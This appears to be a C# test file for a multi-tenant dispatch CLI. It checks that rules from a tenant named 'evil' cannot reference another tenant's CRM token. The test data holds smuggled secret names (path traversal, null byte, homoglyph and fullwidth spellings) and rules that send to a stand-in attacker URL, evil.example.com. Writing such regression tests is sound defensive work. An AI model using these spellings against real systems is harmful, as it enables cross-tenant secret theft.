using System.Text.Json;

namespace Astra.Dispatch.Cli.Tests;

/// <summary>
/// A second tenant's rules name the first tenant's secrets, through the CLI. On main secrets were one namespace:
/// <c>rules import</c> of tenant evil's rule naming <c>CRM_TOKEN</c> succeeded, and its sends carried acme's token.
/// </summary>
public sealed class CrossTenantSecretsTests
{
    private const string AcmeToken = "acme-crm-token-91c4d2";

    private static readonly string[] Spellings =
    [
        "CRM_TOKEN", "../acme/CRM_TOKEN", "acme/CRM_TOKEN", "..\\acme\\CRM_TOKEN", "ACME__CRM_TOKEN", "ASTRA_SECRET_ACME__CRM_TOKEN",
        "/tmp/secrets/acme/CRM_TOKEN", ".", "..", "CRM_TOKEN\0", "CRM_T\u041EKEN", "\uFF23RM_TOKEN", "acme\uFF0FCRM_TOKEN", "$ASTRA_SECRET_ACME__CRM_TOKEN",
    ];

    private static string EvilRules(string field) => JsonSerializer.Serialize(new
    {
        rules = Spellings.Select((name, i) => new Dictionary<string, object>
        {
            ["id"] = $"evil-{i}",
            ["tenantId"] = "evil",
            ["trigger"] = new { events = new[] { "lead.captured" } },
            ["request"] = new { url = "https://evil.example.com/collect" },
            [field] = field == "auth" ? new { type = "bearer", secret = name } : field == "signing" ? new { secret = name } : name,
        }),
    });

    [Theory]
    [InlineData("auth", "auth.secret")]
    [InlineData("signing", "signing.secret")]
    [InlineData("clientCertificate", "clientCertificate")]
    public async Task ValidateAndImport_EvilNamesAcmesSecretEveryWay_EachRefusedNothingImported(string field, string path)
    {
        using var cli = new CliRun();
        cli.WriteSecret("acme", "CRM_TOKEN", AcmeToken);
        var file = cli.Write("evil.json", EvilRules(field));

        var validate = await cli.RunAsync("rules", "validate", file, "--json");
        var import = await cli.RunAsync("rules", "import", file);
        var list = await cli.RunAsync("rules", "list", "--json");

        Assert.Equal(2, validate.ExitCode);
        var errors = JsonDocument.Parse(validate.Out).RootElement.GetProperty("errors").EnumerateArray().Select(e => e.GetString()!).ToList();
        for (var i = 0; i < Spellings.Length; i++)
            Assert.Contains(errors, e => e.StartsWith($"evil.json: evil-{i}.{path}: ", StringComparison.Ordinal));
        Assert.Contains($"evil.json: evil-0.{path}: names secret 'CRM_TOKEN', which is not set for tenant 'evil' (ASTRA_SECRET_EVIL__CRM_TOKEN, or the file evil/CRM_TOKEN in Dispatch:SecretsPath)", errors);
        Assert.All(errors.Skip(1), e => Assert.Contains("is not a valid secret name", e, StringComparison.Ordinal));
        Assert.Equal(2, import.ExitCode);
        Assert.Contains("evil-0", import.Err, StringComparison.Ordinal);
        foreach (var output in new[] { validate.Out, validate.Err, import.Out, import.Err })
        {
            Assert.DoesNotContain(AcmeToken, output, StringComparison.Ordinal);
            Assert.DoesNotContain('\0', output);
        }
        Assert.Equal(0, JsonDocument.Parse(list.Out).RootElement.GetArrayLength());
    }

    [Fact]
    public async Task Import_AcmesRuleWithItsOwnSecret_Imported()
    {
        using var cli = new CliRun();
        cli.WriteSecret("acme", "CRM_TOKEN", AcmeToken);
        var file = cli.Write("acme.yaml", """
            id: crm-new-lead
            tenantId: acme
            trigger: { events: [lead.captured] }
            request: { url: "https://crm.example.com/leads" }
            auth: { type: bearer, secret: CRM_TOKEN }
            """);

        Assert.Equal(0, (await cli.RunAsync("rules", "import", file)).ExitCode);
    }
}
